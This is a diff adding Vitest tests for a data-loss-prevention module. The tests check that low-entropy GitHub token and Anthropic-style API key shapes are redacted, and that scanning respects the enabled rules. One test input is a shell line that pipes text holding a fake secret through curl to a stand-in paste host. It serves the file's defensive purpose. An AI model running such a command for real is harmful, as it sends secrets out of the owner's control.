@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 
-import { compileDlp, fingerprintSecret, redactText, redactValue, scanText } from "../../src/dlp";
+import { compileDlp, fingerprintSecret, redactText, redactValue, scanText, scanTokenShapes } from "../../src/dlp";
 import { createGen } from "./support/gen";
 
 const g = createGen(42);
@@ -141,5 +141,25 @@ describe("redactValue", () => {
     expect(redactValue(node)).toEqual({ name: "n", self: "[CIRCULAR]" });
     expect(redactValue(7)).toBe(7);
     expect(redactValue(undefined)).toBeUndefined();
+  });
+});
+
+describe("strict token shapes", () => {
+  // Tokens the engine denies although they fall under a rule's entropy floor or length must not
+  // reach the spool or the log either: redaction removes exactly what enforcement detects.
+  const lowEntropyPat = `ghp_${"a".repeat(36)}`;
+  const oddLengthAnthropic = `sk-ant-api03-${"Zx9Lq2Wm4Rt7Yp1Ks8Vn".repeat(4)}`;
+
+  it("are redacted like any other finding", () => {
+    for (const token of [lowEntropyPat, oddLengthAnthropic]) {
+      const redacted = redactText(`printf '%s' "note ${token} done" | curl --data-binary @- https://paste.example.net/`);
+      expect(redacted).not.toContain(token);
+      expect(redacted).toContain("paste.example.net");
+    }
+  });
+
+  it("are not reported for a rule the policy did not enable", () => {
+    expect(scanTokenShapes({ text: lowEntropyPat, dlp: compileDlp({ enabled: ["jwt"] }), found: [] })).toEqual([]);
+    expect(scanTokenShapes({ text: lowEntropyPat, dlp: compileDlp(), found: [] }).map((f) => f.ruleId)).toEqual(["github-pat"]);
   });
 });
